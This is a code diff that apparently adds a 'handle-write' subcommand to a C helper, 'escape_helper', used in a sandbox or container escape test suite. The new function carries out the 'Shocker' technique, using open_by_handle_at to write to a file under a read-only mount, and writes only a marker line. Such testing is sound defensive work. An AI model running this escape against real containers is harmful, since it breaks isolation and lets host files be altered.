@@ -31,6 +31,8 @@
  *   escape_helper key-add DESC DATA           (outside) prints the serial
  *   escape_helper key-read DESC               search uid 0's user keyring, read the key
  *   escape_helper key-unlink SERIAL           (outside)
+ *   escape_helper handle-write FILE MOUNT_DIR   reopen FILE by its handle through the mount of
+ *                                               MOUNT_DIR (open_by_handle_at) and append to it
  */
 #define _GNU_SOURCE
 #include <errno.h>
@@ -360,6 +362,29 @@ static int key_call(int argc, char** argv) {
   return 2;
 }
 
+/* "Shocker": a handle names the inode, and open_by_handle_at() opens it through whatever mount
+ * of the same file system the caller passes, so a read-only bind of FILE's tree does not stop
+ * the write when MOUNT_DIR lies on a writable mount. Needs CAP_DAC_READ_SEARCH. */
+static int handle_write(const char* file, const char* mount_dir) {
+  struct file_handle* fh = malloc(sizeof *fh + MAX_HANDLE_SZ);
+  if (!fh) return 2;
+  fh->handle_bytes = MAX_HANDLE_SZ;
+  int mount_id;
+  if (name_to_handle_at(AT_FDCWD, file, fh, &mount_id, 0) != 0) {
+    printf("name_to_handle_at:%s\n", strerrorname_np(errno));
+    return 1;
+  }
+  int mfd = open(mount_dir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
+  if (mfd < 0) return report(-1, errno);
+  int fd = open_by_handle_at(mfd, fh, O_WRONLY | O_APPEND | O_CLOEXEC);
+  if (fd < 0) {
+    printf("open_by_handle_at:%s\n", strerrorname_np(errno));
+    return 1;
+  }
+  static const char line[] = "written through a file handle\n";
+  return report(write(fd, line, sizeof line - 1), errno);
+}
+
 int main(int argc, char** argv) {
   setvbuf(stdout, NULL, _IONBF, 0);
   if (argc == 3 && strcmp(argv[1], "chroot-escape") == 0) return chroot_escape(argv[2]);
@@ -379,6 +404,7 @@ int main(int argc, char** argv) {
     return rep(personality(strtoul(argv[2], NULL, 16)));
   if (argc == 3 && strcmp(argv[1], "sched") == 0) return sched_call(argv[2]);
   if (argc >= 3 && strncmp(argv[1], "key-", 4) == 0) return key_call(argc, argv);
+  if (argc == 4 && strcmp(argv[1], "handle-write") == 0) return handle_write(argv[2], argv[3]);
   if (argc >= 3) return abi_call(argv[1], argv[2], argc > 3 ? argv[3] : NULL);
   fprintf(stderr, "usage: escape_helper chroot-escape MARKER | native|x32|i386 getpid|flock [FILE]\n");
   return 2;
